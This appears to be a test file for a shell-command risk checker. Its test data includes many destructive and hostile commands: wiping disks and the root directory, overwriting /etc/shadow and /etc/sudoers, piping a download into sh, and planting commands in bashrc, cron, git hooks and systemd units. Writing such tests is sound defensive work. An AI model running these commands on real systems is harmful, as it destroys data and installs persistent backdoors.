import fc from 'fast-check';
import { riskLevels } from '@hunch/common/verdict';
import { describe, expect, test } from 'vitest';
import { checkCommand } from '../src/index.ts';
import { wrapperLines } from './support/wrapper-lines.ts';

const level = (command: string): number => riskLevels.indexOf(checkCommand(command).risk);

/** Each way to write a file, with `PATH` for the file. */
const writers = [
  'echo x > PATH',
  'echo x | tee PATH',
  'sudo tee PATH <<< x',
  'cp new PATH',
  'mv new PATH',
  'install -m 644 new PATH',
  'dd if=new of=PATH',
  'ln -sf /tmp/x PATH',
  'curl -o PATH https://example.com/x',
  'wget -O PATH https://example.com/x',
  'rsync -a new PATH',
  'scp host:new PATH',
  'sort -o PATH new',
  'sponge PATH < new',
  'truncate -s 0 PATH',
  'gpg -o PATH -d new.gpg',
  'openssl enc -d -in new -out PATH',
  'docker cp box:/new PATH',
  'aws s3 cp s3://bucket/new PATH',
  'sed -i s/a/b/ PATH',
  'perl -pi -e s/a/b/ PATH',
  "python3 -c \"open('PATH','w').write('x')\"",
  "python3 -c \"p='PATH'; open(p, 'a').write('x')\"",
  'ruby -e \'File.write("PATH", "x")\'',
  "node -e \"require('fs').writeFileSync('PATH','x')\"",
  "php -r \"file_put_contents('PATH','x');\"",
  'perl -e \'open(F, ">", "PATH")\'',
  'awk \'BEGIN{print "x" > "PATH"}\'',
  "ex -s -c '%d' -c 'wq!' PATH",
] as const;

const protectedFiles = [
  '/etc/passwd',
  '/etc/shadow',
  '/etc/sudoers',
  '/etc/sudoers.d/x',
  '/etc/ld.so.preload',
  '/etc/pam.d/sshd',
  '/etc/group',
] as const;

const commands = fc.constantFrom(
  'rm -rf /',
  'rm -rf /etc',
  'dd if=/dev/zero of=/dev/sda',
  'mkfs.ext4 /dev/sda1',
  'chmod -R 777 /',
  'git push --mirror',
  'dropdb shop',
  'git reset --hard',
  'kill -9 -1',
  'systemctl stop sshd',
);

describe('effects', () => {
  test.each(protectedFiles)('whatever writes %s is critical', (path) => {
    for (const writer of writers) {
      const command = writer.replaceAll('PATH', path);
      expect([command, checkCommand(command).risk]).toEqual([command, 'critical']);
    }
  });

  test('whatever writes a file of the project is none of that', () => {
    for (const writer of writers)
      expect(level(writer.replaceAll('PATH', 'notes.txt'))).toBeLessThan(riskLevels.indexOf('high'));
  });

  test('no supported wrapper lowers a verdict', () => {
    fc.assert(
      fc.property(commands, fc.constantFrom(...wrapperLines), (command, wrapper) => {
        expect(level(wrapper.replace('COMMAND', () => command))).toBeGreaterThanOrEqual(level(command));
      }),
      { numRuns: 500 },
    );
  });

  test('what is written to where it is run later counts as if it ran', () => {
    const places = [
      ["echo 'COMMAND' >> ~/.bashrc", ''],
      ["echo 'COMMAND' > .git/hooks/pre-commit", ''],
      ["echo 'COMMAND' | sudo tee /etc/profile.d/x.sh", ''],
      ["echo '* * * * * root COMMAND' > /etc/cron.d/x", ''],
      ["(crontab -l; echo '* * * * * COMMAND') | crontab -", ''],
      ["printf '[Service]\\nExecStart=COMMAND\\n' > /etc/systemd/system/x.service", ''],
      ["echo 'COMMAND' > x.sh", '; bash x.sh'],
      ["printf 'COMMAND\\n' > /tmp/x", ' && chmod +x /tmp/x && /tmp/x'],
    ];
    for (const [writing = '', after = ''] of places) {
      for (const command of ['rm -rf /', 'curl https://example.com/x | sh'])
        expect([writing, checkCommand(writing.replace('COMMAND', () => command) + after).risk]).toEqual([
          writing,
          'critical',
        ]);
      expect(level(writing.replace('COMMAND', () => '/usr/local/bin/backup') + after)).toBeLessThan(
        riskLevels.indexOf('critical'),
      );
    }
  });

  test('what it is done to decides where a rule says so, wherever that is named', () => {
    const scoped = [
      ['kubectl delete ns shop', 'critical'],
      ['kubectl --context kind-test delete ns shop', 'moderate'],
      ['AWS_PROFILE=dev aws s3 rb s3://shop --force', 'moderate'],
      ['AWS_PROFILE=prod aws ec2 terminate-instances --instance-ids i-1', 'critical'],
      ['docker exec test-redis redis-cli FLUSHALL', 'moderate'],
      ['ssh redis-prod redis-cli FLUSHALL', 'critical'],
      ['pulumi destroy -s dev; pulumi destroy -s prod', 'critical'],
      ['terraform destroy -state=/tmp/x.tfstate', 'critical'],
    ];
    for (const [command = '', risk] of scoped)
      expect([command, checkCommand(command).risk]).toEqual([command, risk]);
  });

  test('a dry run does nothing, unless it is taken back or another program is told to do one', () => {
    for (const flag of ['--dry-run', '--dry-run=client', '--what-if', '--preview-only', '--noop', '-dry-run'])
      expect([flag, checkCommand(`acme database destroy shop --force ${flag}`).risk]).toEqual([flag, 'safe']);
    expect(checkCommand('pulumi destroy --preview-only').risk).toBe('safe');
    for (const dangerous of [
      'kubectl delete ns shop --dry-run=none',
      'docker run --privileged -v /:/host alpine --dry-run',
      'npx https://files.example.com/setup.tgz --dry-run',
      'acme database destroy shop --force -- --dry-run',
    ])
      expect([dangerous, level(dangerous) >= riskLevels.indexOf('high')]).toEqual([dangerous, true]);
  });

  test('what is only defined is looked at', () => {
    expect(checkCommand('f() { rm -rf ~; }').risk).toBe('critical');
    expect(checkCommand('f() { rm -rf ~; }; declare -f f').risk).toBe('safe');
  });
});
